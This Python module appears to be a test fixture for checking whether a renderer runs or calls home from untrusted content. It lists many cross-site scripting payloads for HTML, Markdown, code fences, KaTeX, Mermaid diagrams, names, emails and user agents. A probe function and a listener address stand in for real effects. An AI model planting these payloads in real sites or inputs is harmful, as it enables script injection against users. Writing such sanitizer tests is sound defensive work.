"""What somebody may put into a text so that it runs, or calls home, where it is shown.

`ran(…)` is a function that the test gives to the page; `EAR` is an address at which it listens.
"""

from typing import Final

HTML: Final = (
    "<script>ran('script')</script><script src=EAR/s.js></script>",
    "<img src=EAR/i.png onerror=ran('img')><img src=x onerror='ran(1)' srcset='EAR/i2.png 2x'>",
    "<svg/onload=ran('svg')><svg><script href=data:text/javascript,ran(1) /></svg>",
    "<iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\"></iframe><iframe src=javascript:parent.ran(1)>",
    "<object data=EAR/o></object><embed src=EAR/e><video src=EAR/v onerror=ran('video')><audio src=EAR/a>",
    "<link rel=stylesheet href=EAR/c.css><style>@import url(EAR/i.css);*{background:url(EAR/b.png)}</style>",
    "<meta http-equiv=refresh content='0;url=EAR/m'><base href=EAR/>",
    "<form action=EAR/f><button autofocus onfocus=ran('focus')>x</button><input autofocus onfocus=ran(1)>",
    "<details open ontoggle=ran('toggle')><summary>x</summary></details><body onpageshow=ran(1)>",
    "<p style='background:url(EAR/p.png);animation-name:x' onanimationstart=ran(1)>x</p>",
    "<svg></p><style><a id=\"</style><img src=x onerror=ran('mutation')>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript')>\">",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(1)&gt;">',
    "&lt;img src=x onerror=ran('entity')&gt; &#60;script&#62;ran(1)&#60;/script&#62; \\u003cscript\\u003e",
    "{{constructor.constructor('ran(1)')()}} ${ran('template')} <%= ran(1) %> \"><img src=x onerror=ran(1)>",
)
MARKDOWN: Final = (
    "[a](javascript:ran(1)) [b](JaVaScRiPt:ran(1)) [c](java&#115;cript:ran(1)) [d](java\tscript:ran(1))",
    "[e](data:text/html,<script>ran(1)</script>) [f](vbscript:ran(1)) [g](blob:EAR/x) <javascript:ran(1)>",
    "[h][j] [i][k]\n\n[j]: javascript:ran(1)\n[k]: <data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=>",
    "![pixel](EAR/p.png) ![svg](data:image/svg+xml,<svg onload=ran(1)>) [![x](EAR/q.png)](javascript:ran(1))",
    '[x](EAR/"onmouseover="ran(1)) ![y"onerror="ran(1)](EAR/z.png) [z](EAR \'title" onclick="ran(1)\')',
    "A note[^1].\n\n[^1]: <img src=x onerror=ran('note')> ![n](EAR/n.png)",
    "| <img src=x onerror=ran(1)> | ![t](EAR/t.png) |\n|---|---|\n| <script>ran(1)</script> | [d](data:,x) |",
    "# <img src=x onerror=ran('heading')>\n\n> <script>ran('quote')</script>\n\n- <svg/onload=ran(1)>",
)
CODE: Final = (
    "`<img src=x onerror=ran('inline')>`",
    "```html\n<script>ran('fence')</script>\n<img src=EAR/code.png onerror=ran(1)>\n```",
    "```\"><img/src=x/onerror=ran('language')>\nx\n```",
    "~~~js\"onload=\"ran(1)\nlet a = '</code></pre><script>ran(1)</script>'\n~~~",
)
FORMULAS: Final = (
    r"$$\href{javascript:ran(1)}{x} \url{javascript:ran(1)}$$",
    r"$$\includegraphics{EAR/k.png} \htmlStyle{background:url(EAR/h.png)}{x} \htmlData{a=b}{x}$$",
    r"$$\text{<img src=x onerror=ran('katex')>} \unicode{<script>ran(1)</script>}$$",
    r"$\def\a{<script>ran(1)</script>}\a$ \(\htmlId{x\" onclick=\"ran(1)}{x}\)",
)
DIAGRAMS: Final = (
    'flowchart TD\n  A["<img src=EAR/m.png onerror=ran(1)>"] --> B',
    'flowchart TD\n  A["#60;img src=EAR/me.png onerror=ran(1)#62;"] --> B["#lt;script#gt;ran(1)"]',
    'flowchart TD\n  A --> B\n  click A "javascript:ran(1)"\n  click B call ran(1)',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "secure": []}}%%\n'
    "flowchart TD\n  A[<script>ran(1)</script>]",
    '---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import EAR/t.css"\n---\nflowchart TD\n  A --> B',
    "flowchart TD\n  A --> B\n  style A fill:ur\\6c(EAR/f.png),stroke:red;}*{background:ur\\6c(EAR/g.png)",
    "sequenceDiagram\n  A->>B: <svg/onload=ran(1)>\n  link A: x @ javascript:ran(1)",
)
#: On one line each, for what has room for no more.
LINES: Final = (HTML[1], "[a](javascript:ran('title')) <svg/onload=ran('title')>")
#: A name has 80 characters at most; an email no spaces, and it is stored in one case. The third of each are
#: one payload, where both are shown beside each other.
NAMES: Final = (
    "<script>ran('name')</script>",
    "<img src=EAR/n.png onerror=ran('name')>",
    "<img src=EAR/m.png onerror=",
)
ADDRESSES: Final = (
    "<svg/onload=ran('email')>@example.org",
    "<img/src=EAR/e.png/onerror=ran('email')>@example.org",
    "ran('halves')>@example.org",
)
#: What browsers call themselves.
AGENTS: Final = (
    "<svg/onload=ran('agent')>",
    "<svg><script>ran('agent')</script>",
    "<svg><a\"onclick='ran(1)'autofocus\"onfocus='ran(1)'>",
)
STORED: Final = "<img\tsrc=EAR/s.png\tonerror=ran('stored')>"


def text_of(ear: str) -> str:
    """All of it as one text, with diagrams last, where they come into view."""
    fenced = (f"```mermaid\n{one}\n```" for one in DIAGRAMS)
    return heard_at(ear, "\n\n".join((*HTML, *MARKDOWN, *CODE, *FORMULAS, *fenced, "End of it.")))


def heard_at(ear: str, text: str) -> str:
    """The text with the address at which somebody listens."""
    return text.replace("EAR", ear)
